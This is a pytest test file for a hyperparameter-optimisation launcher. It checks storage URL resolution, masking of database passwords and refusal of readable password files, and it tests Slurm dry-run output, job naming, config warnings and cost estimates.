def test_default_storage_is_a_journal_in_the_workdir(quickstart_spec: Any, tmp_path: Path) -> None:
    ref = resolve_storage(quickstart_spec, None, "s.yaml")
    assert ref == StorageRef("journal", str(tmp_path / "runs" / "quickstart" / "optuna.journal"))
    assert str(ref) == f"journal:{tmp_path}/runs/quickstart/optuna.journal"
    assert resolve_storage(quickstart_spec, "", "s.yaml") == ref
    assert not (tmp_path / "runs").exists()


def test_journal_and_sqlite_paths_are_made_absolute(quickstart_spec: Any, tmp_path: Path) -> None:
    assert str(resolve_storage(quickstart_spec, "journal:db/j.log", "s")) == f"journal:{tmp_path}/db/j.log"
    assert str(resolve_storage(quickstart_spec, "sqlite:///db/s.db", "s")) == f"sqlite:///{tmp_path}/db/s.db"
    with pytest.raises(StudyFileError, match="journal: needs a file path"):
        resolve_storage(quickstart_spec, "journal:", "s")


def test_password_in_url_moves_to_pgpassword(quickstart_spec: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGPASSWORD", "before")  # restored after the test
    ref = resolve_storage(quickstart_spec, "postgresql://u:secret@host:5432/db", "s.yaml")
    assert os.environ["PGPASSWORD"] == "secret"
    assert ref.kind == "rdb"
    assert mask(str(ref)) in ("postgresql://u@host:5432/db", "postgresql://u:***@host:5432/db")


def test_storage_ref_carries_no_password(quickstart_spec: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGPASSWORD", "before")
    ref = resolve_storage(quickstart_spec, "postgres://u:secret@host:5432/db", "s.yaml")
    assert str(ref) == "postgresql://u@host:5432/db"
    assert "secret" not in repr(ref)


def test_a_password_in_the_query_moves_to_pgpassword_and_is_masked(
    quickstart_spec: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # libpq takes ?password= as it takes user:password@.
    monkeypatch.setenv("PGPASSWORD", "before")
    ref = resolve_storage(
        quickstart_spec, "postgresql://u@host:5432/db?sslmode=require&password=secret", "s.yaml"
    )
    assert os.environ["PGPASSWORD"] == "secret"
    assert str(ref) == "postgresql://u@host:5432/db?sslmode=require"
    assert has_password("postgresql://u@host/db?password=secret")
    for url in ("postgresql://u@host/db?password=secret", "postgresql://u@host/db?a=1&password=secret",
                "not a url ?password=secret"):  # fmt: skip
        assert "secret" not in mask(url) and "password=***" in mask(url), mask(url)


@pytest.mark.parametrize("where", ["query", "PGPASSFILE", "home"])
def test_a_password_file_others_can_read_is_refused_naming_it(
    quickstart_spec: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, where: str
) -> None:
    passfile = tmp_path / "pgpass"
    passfile.write_text("host:5432:db:u:secret\n")
    passfile.chmod(0o644)
    url = "postgresql://u@host:5432/db"
    monkeypatch.delenv("PGPASSFILE", raising=False)
    monkeypatch.delenv("PGPASSWORD", raising=False)  # libpq reads no file when it is set
    if where == "query":
        url += f"?passfile={passfile}"
    elif where == "PGPASSFILE":
        monkeypatch.setenv("PGPASSFILE", str(passfile))
    else:
        monkeypatch.setenv("HOME", str(tmp_path))
        passfile = passfile.rename(tmp_path / ".pgpass")
    with pytest.raises(StudyFileError, match=f"{passfile} can be read by others \\(mode 644\\).*chmod 600"):
        resolve_storage(quickstart_spec, url, "s.yaml")
    passfile.chmod(0o600)
    resolve_storage(quickstart_spec, url, "s.yaml")


def test_no_job_name_of_one_study_is_a_job_name_of_another(quickstart_spec: Any) -> None:
    names = ["pc", "pc-ray", "pc-worker", "pc-launcher", "ray", "worker", "pc.ray", "pc_ray", "hpo-pc"]
    owners: dict[str, str] = {}
    for name in names:
        spec = copy.deepcopy(quickstart_spec)
        spec.study.name = name
        for role in jobs.JOB_ROLES:
            job = jobs.job_name(spec, role)
            assert owners.setdefault(job, name) == name, f"{job}: {owners[job]} and {name}"
    assert len(owners) == len(names) * len(jobs.JOB_ROLES)


def test_mask_and_has_password() -> None:
    assert mask("postgresql://u:secret@host/db") == "postgresql://u:***@host/db"
    assert mask("postgresql://u@host/db") == "postgresql://u@host/db"
    assert mask("journal:/a/b") == "journal:/a/b"
    assert "secret" not in mask("not a url u:secret@host")
    assert has_password("postgresql://u:secret@host/db")
    assert not has_password("postgresql://u@host/db")
    assert not has_password("journal:/x:y@z")


# --------------------------------------------------------------------------------------------------
# 7. The dry run of a Slurm study
# --------------------------------------------------------------------------------------------------


SLURM_DRY_RUN_SETTINGS = (
    "resources.slurm.account=proj42",
    "resources.slurm.qos=high",
    "resources.slurm.constraint=a100|h100",
    "resources.slurm.partition=gpu",
    "resources.setup=[module load cuda/12.4, source $HOME/venv/bin/activate]",
    "resources.slurm.sbatch={mail-type: END}",
)


def slurm_dry_run(tmp_path: Path, path_dirs: list[Path]) -> subprocess.CompletedProcess[str]:
    """`hpo launch --executor slurm --dry-run` with only `path_dirs` on PATH (no sbatch there)."""
    document = base_document(tmp_path / "workdir")
    # A password may come into the file's URL from the environment (never from the command line).
    document["study"]["storage"] = "postgresql://u:${HPO_TEST_SECRET}@db.example:5432/hpo"
    path = write_study(tmp_path / "s.yaml", document)
    sets = [arg for setting in SLURM_DRY_RUN_SETTINGS for arg in ("--set", setting)]
    env = {"PATH": os.pathsep.join(str(d) for d in path_dirs), "HPO_TEST_SECRET": "secret"}
    return run_hpo("launch", str(path), "--executor", "slurm", "--dry-run", *sets, cwd=tmp_path, env=env)


def test_slurm_dry_run_prints_the_sbatch_script(tmp_path: Path) -> None:
    # Only the virtual environment on PATH: no sbatch, no srun, as on a laptop.
    proc = slurm_dry_run(tmp_path, [Path(sys.executable).parent])

    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    for line in (
        "#SBATCH --account=proj42",
        "#SBATCH --qos=high",
        "#SBATCH --partition=gpu",
        "#SBATCH --mail-type=END",
        "#SBATCH --time=20",
        "#SBATCH --job-name=hpo-quickstart",
        "module load cuda/12.4",
        "source $HOME/venv/bin/activate",
    ):
        assert line in out.splitlines(), f"{line!r} not in the dry run:\n{out}"
    # submitit shell-quotes the expression; sbatch strips the quotes of #SBATCH lines.
    assert "#SBATCH --constraint='a100|h100'" in out.splitlines()
    # A one-process trial runs Python from the batch script itself, signalled as the batch shell.
    command = next(line for line in out.splitlines() if line.startswith("exec "))
    assert "-m submitit.core._submit" in command and f"{tmp_path / 'workdir' / 'jobs'}" in command
    assert "#SBATCH --signal=B:USR2@90" in out.splitlines()
    assert not [line for line in out.splitlines() if line.startswith("srun ")]
    storage = next(line.strip() for line in out.splitlines() if line.strip().startswith("storage:"))
    assert storage in (
        "storage: postgresql://u:***@db.example:5432/hpo",
        "storage: postgresql://u@db.example:5432/hpo",
    )
    assert "secret" not in out + proc.stderr
    assert out.rstrip().endswith("# dry run: nothing submitted")
    assert not (tmp_path / "workdir").exists()


def test_local_dry_run_submits_nothing(tmp_path: Path) -> None:
    workdir = tmp_path / "workdir"
    path = write_study(tmp_path / "s.yaml", base_document(workdir))
    proc = run_hpo("launch", str(path), "--dry-run", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr == ""
    resolved = yaml.safe_load(proc.stdout)  # the resolved study is YAML (the comments aside)
    assert resolved["study"]["storage"] == f"journal:{workdir}/optuna.journal"
    assert resolved["study"]["direction"] == "maximize"
    assert resolved["resources"]["executor"] == "local"
    assert "#SBATCH" not in proc.stdout
    assert not workdir.exists()


def test_base_document_is_valid(tmp_path: Path) -> None:
    """The corpus's base file loads: each malformed case fails for its own edit only."""
    document = base_document(tmp_path / "w")
    spec = load_study(write_study(tmp_path / "s.yaml", copy.deepcopy(document)))
    assert spec.workdir == tmp_path / "w"


def test_the_own_code_base_document_is_valid(tmp_path: Path) -> None:
    """The base of the objective cases loads: each of them fails for its own edit only."""
    spec = load_study(write_study(tmp_path / "s.yaml", base_document(tmp_path / "w", DLOJZ)))
    assert spec.objective is not None and spec.objective_cwd == str(DLOJZ.parent)
    assert spec.study.direction == "maximize" and spec.max_steps == 4 and spec.warnings == []


def test_a_parameter_the_command_never_names_is_a_warning_not_an_error(tmp_path: Path) -> None:
    """A command that names some parameters but not another has likely lost a flag: the launch says
    which, and goes on (the script may read it through hpo.trial.params())."""
    document = base_document(tmp_path / "w", DLOJZ)
    document["objective"]["command"] = [
        e for e in document["objective"]["command"] if e not in ("--wd", "{wd}")
    ]
    proc = run_hpo("launch", str(write_study(tmp_path / "s.yaml", document)), "--dry-run", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    [warning] = proc.stderr.splitlines()
    assert warning.startswith("warning: ") and "search_space.wd: objective.command never uses {wd}" in warning
    assert (
        yaml.safe_load(proc.stdout)["objective"]["metric_pattern"] == document["objective"]["metric_pattern"]
    )


@pytest.mark.fast
def test_slurm_keys_with_the_local_executor_get_one_warning_line(tmp_path: Path) -> None:
    # A forgotten `executor: slurm`: the account, partition and setup given, every trial local.
    document = base_document(tmp_path, QUICKSTART)
    document["resources"].update(
        slurm={"partition": "gpu_p5", "account": "abc@a100"}, setup=["module load pytorch"]
    )
    study_file = write_study(tmp_path / "s.yaml", document)
    assert load_study(study_file).warnings == [
        f"{study_file}: resources.executor is local, so resources.slurm, "
        "resources.setup are not used: every trial runs on this machine (set resources.executor: "
        "slurm, or launch with --executor slurm)"
    ]
    assert load_study(study_file, ["resources.executor=slurm"]).warnings == []
    dry = run_hpo_here("launch", str(study_file), "--dry-run", cwd=tmp_path)
    assert dry.returncode == 0 and dry.stderr.count("warning: ") == 1, dry.stderr
    assert "resources.slurm, resources.setup are not used" in dry.stderr


@pytest.mark.fast
def test_slurm_keys_directly_under_resources_are_read_with_one_note(tmp_path: Path) -> None:
    """Where an older study file has them: read as resources.slurm's, the file still valid."""
    document = base_document(tmp_path, QUICKSTART)
    document["resources"].update(
        executor="slurm", partition="gpu_p5", qos="dev", sbatch={"hint": "nomultithread"}
    )
    study_file = write_study(tmp_path / "s.yaml", document)
    spec = load_study(study_file)
    assert spec.warnings == [
        f"{study_file}: resources.partition, resources.qos, resources.sbatch: read as "
        "resources.slurm.partition, resources.slurm.qos, resources.slurm.sbatch, where they belong now; "
        "move them there"
    ]
    slurm = slurm_settings.of(spec)
    assert (slurm.partition, slurm.qos, slurm.sbatch) == ("gpu_p5", "dev", {"hint": "nomultithread"})


@pytest.mark.fast
def test_a_dry_run_says_the_most_the_study_can_cost_and_what_its_budget_caps(tmp_path: Path) -> None:
    document = base_document(tmp_path, QUICKSTART)
    document["study"]["n_trials"] = 12
    document["resources"].update(time="30m", cpus_per_task=2)
    study_file = write_study(tmp_path / "s.yaml", document)
    dry = run_hpo_here("launch", str(study_file), "--dry-run", cwd=tmp_path)
    assert dry.returncode == 0, dry.stderr
    # 12 trials x 0.5 h x 2 CPUs.
    assert (
        "# expected cost: at most 12.0 CPU-hours (12 trials, each up to its 30-min time limit on 2 CPUs; "
        "pruned and faster trials cost less)\n"
    ) in dry.stdout, dry.stdout
    capped = run_hpo_here("launch", str(study_file), "--dry-run", "--set", "study.budget=5", cwd=tmp_path)
    assert "cost less); study.budget stops it at 5 CPU-hours\n" in capped.stdout, capped.stdout
